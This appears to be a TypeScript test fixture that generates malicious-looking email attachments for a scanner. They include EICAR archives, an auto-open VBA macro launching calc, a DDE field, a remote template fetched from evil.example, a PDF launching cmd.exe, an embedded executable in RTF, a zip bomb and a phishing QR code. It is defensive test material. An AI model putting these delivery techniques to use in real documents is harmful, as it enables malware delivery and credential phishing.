// The files that letters carry, made at run time.
import zlib from 'node:zlib'
import CFB from 'cfb'
import { EICAR, letterWith, tar, tnef, zip } from '../support/archives.ts'
import { bmpOf } from '../support/qr.ts'

/** "MZ", and "PE" where the header says: all that makes a program of it. */
function program(): Buffer {
  const bytes = Buffer.alloc(512)
  bytes.write('MZ')
  bytes.writeUInt32LE(0x80, 0x3c)
  bytes.write('PE\0\0', 0x80)
  return bytes
}

/** [MS-OVBA] 2.4.1 with literals only: one chunk, a flag byte of zero before each eight letters. */
function compressedVba(source: string): Buffer {
  const groups = source.match(/[^]{1,8}/g) ?? []
  const data = Buffer.from(groups.map((group) => `\0${group}`).join(''), 'latin1')
  const header = Buffer.from([1, 0, 0])
  header.writeUInt16LE(0xb000 | (data.length - 1), 1)
  return Buffer.concat([header, data])
}

function vbaProject(storage: string, source: string): Buffer {
  const file = CFB.utils.cfb_new()
  CFB.utils.cfb_add(file, `${storage}VBA/_VBA_PROJECT`, Buffer.from('cc61ffff000000', 'hex'))
  CFB.utils.cfb_add(file, `${storage}VBA/ThisDocument`, compressedVba(`Attribute VB_Name = "ThisDocument"\r\n${source}`))
  if (storage !== '') CFB.utils.cfb_add(file, 'WordDocument', Buffer.alloc(64))
  return Buffer.from(CFB.write(file, { type: 'buffer' }) as Uint8Array)
}

const AUTO_MACRO = 'Sub AutoOpen()\r\nCreateObject("WScript.Shell").Run "calc"\r\nEnd Sub\r\n'
const CALM_MACRO = 'Sub Total()\r\nMsgBox 1 + 1\r\nEnd Sub\r\n'

const text = (name: string, content: string) => ({ name, bytes: Buffer.from(content) })

function docx(...more: readonly { name: string; bytes: Uint8Array }[]): Buffer {
  return zip([text('[Content_Types].xml', '<?xml version="1.0"?><Types/>'), text('word/document.xml', '<?xml version="1.0"?><w:document/>'), ...more])
}

const DDE_RUNS = '<?xml version="1.0"?><w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\x</w:instrText></w:p>'
const REMOTE_TEMPLATE =
  '<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
const LOCAL_TEMPLATE = REMOTE_TEMPLATE.replace('https://evil.example/t.dotm', 'file:///C:/Users/li/Normal.dotm')

/** [MS-OLEDS] 2.2.5 around the Packager's layout: label, path, temporary path, data. */
function rtfWithProgram(): Buffer {
  const text = (value: string) => Buffer.from(`${value}\0`, 'latin1')
  const size = (value: Uint8Array) => {
    const bytes = Buffer.alloc(4)
    bytes.writeUInt32LE(value.length)
    return bytes
  }
  const [label, temporary, bytes] = [text('setup.exe'), text('C:\\setup.exe'), program()]
  const head = Buffer.concat([Buffer.from([2, 0]), label, temporary, Buffer.from([0, 0, 3, 0])])
  const native = Buffer.concat([head, size(temporary), temporary, size(bytes), bytes])
  const name = text('Package')
  const object = Buffer.concat([Buffer.from('0105000002000000', 'hex'), size(name), name, Buffer.alloc(8), size(native), native])
  return Buffer.from(`{\\rtf1{\\object\\objemb{\\*\\objdata ${object.toString('hex').replace(/.{64}/g, '$&\n')}}}}`)
}

const eicar = { name: 'eicar.com', bytes: EICAR }
const exe = { name: 'setup.exe', bytes: program() }

/** Made when first asked for. */
export const FILES: Readonly<Record<string, () => Buffer>> = {
  eicar: () => EICAR,
  'eicar.zip': () => zip([eicar]),
  'eicar.zip.zip': () => zip([{ name: 'inner.zip', bytes: zip([eicar]) }]),
  'eicar.tar.gz': () => zlib.gzipSync(tar([eicar])),
  'eicar.eml.zip': () => zip([{ name: 'letter.eml', bytes: letterWith([eicar]) }]),
  'eicar.docx': () => docx({ name: 'word/media/image1.png', bytes: EICAR }),
  'winmail.dat': () => tnef([eicar]),
  'hidden-eicar.zip': () => zip([text('readme.txt', 'hello'), eicar], { listed: 1 }),
  program,
  'program.zip': () => zip([exe]),
  'encrypted.zip': () => zip([exe], { encrypted: true }),
  'two-faced.zip': () => zip([text('setup.exe', 'x')], { centralNames: ['readme.txt'] }),
  'auto-macro.doc': () => vbaProject('Macros/', AUTO_MACRO),
  'calm-macro.docm': () => docx({ name: 'word/vbaProject.bin', bytes: vbaProject('', CALM_MACRO) }),
  'auto-macro.docm': () => docx({ name: 'word/vbaProject.bin', bytes: vbaProject('', AUTO_MACRO) }),
  'macro.odt': () =>
    zip([text('META-INF/manifest.xml', '<x/>'), text('content.xml', '<x/>'), text('Basic/Standard/Module1.xml', '<script:module/>')]),
  'dde.docx': () => docx({ name: 'word/footer1.xml', bytes: Buffer.from(DDE_RUNS) }),
  'remote-template.docx': () => docx(text('word/_rels/settings.xml.rels', REMOTE_TEMPLATE)),
  'plain.docx': () => docx(text('word/_rels/settings.xml.rels', LOCAL_TEMPLATE)),
  'launch.pdf': () => Buffer.from('%PDF-1.4\n1 0 obj<</OpenAction<</S/L#61unch/F(cmd.exe)>>>>endobj\n'),
  'hidden-script.pdf': () => {
    const objects = zlib.deflateSync('<</S/JavaScript/JS(app.alert(1))>>')
    return Buffer.concat([Buffer.from('%PDF-1.5\n1 0 obj<</Type/ObjStm>>stream\n'), objects, Buffer.from('\nendstream')])
  },
  'plain.pdf': () => Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n'),
  'program.rtf': rtfWithProgram,
  'program.pdf': () => {
    const file = zlib.deflateSync(program())
    const open = Buffer.from('%PDF-1.7\n1 0 obj<</Type/EmbeddedFile/Filter/FlateDecode>>stream\r\n')
    return Buffer.concat([open, file, Buffer.from('\r\nendstream endobj')])
  },
  'eicar.one': () => {
    const size = Buffer.alloc(20)
    size.writeUInt32LE(EICAR.length)
    const start = Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex')
    return Buffer.concat([start, Buffer.alloc(1_008), Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'), size, EICAR, Buffer.alloc(16)])
  },
  shortcut: () => Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(56)]),
  'disk.iso': () => {
    const bytes = Buffer.alloc(34_816)
    bytes.write('\x01CD001\x01', 32_768, 'latin1')
    return bytes
  },
  bomb: () => zip([{ name: 'zeros', bytes: Buffer.alloc(40_000_000) }]),
  'sign-in-qr.bmp': () => bmpOf('https://evil.example/signin'),
  picture: () => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(64)]),
}
